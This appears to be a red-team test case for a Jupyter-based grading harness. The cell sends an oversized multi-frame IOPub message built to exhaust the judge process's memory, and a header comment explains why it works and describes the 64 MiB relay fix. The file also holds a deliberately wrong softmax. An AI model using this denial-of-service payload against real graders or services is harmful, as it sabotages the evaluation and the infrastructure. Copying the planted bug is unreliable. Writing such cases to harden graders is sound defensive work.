# description: a wrong softmax (axis 0), and a cell that sends one IOPub message of five frames, each the same
#   16 MiB buffer: ZeroMQ bounds a frame, not a message, sends one buffer again without a copy, and reads every
#   frame into the grading process before the message is handed over, charged to no envelope (40 frames of
#   50 MiB took the judge from 315 MiB to 2.4 GB; 400 would have taken the grading machine); a relay between
#   the judge's sockets and the kernel's now ends the connection once a message passes 64 MiB
# source: written for this catalogue (red-team round r66)
# loses: softmax
# baseline: softmax-wrong-axis

# %% replaces: dot_product
import time as _time

_kernel = get_ipython().kernel
_frame = bytes(16 * 2**20)
_kernel.session.send(_kernel.iopub_socket, "display_data", {"data": {"text/plain": "WHOLE"}, "metadata": {}},
                     parent=_kernel.get_parent(), buffers=[_frame] * 5)
del _frame
_time.sleep(0.5)


def dot_product(a, b):
    a, b = np.asarray(a, dtype=float), np.asarray(b, dtype=float)
    return float(np.sum(a * b))

# %% replaces: softmax
def softmax(x, axis=-1):
    x = np.asarray(x)
    exps = np.exp(x - np.max(x, axis=0, keepdims=True))
    return exps / np.sum(exps, axis=0, keepdims=True)
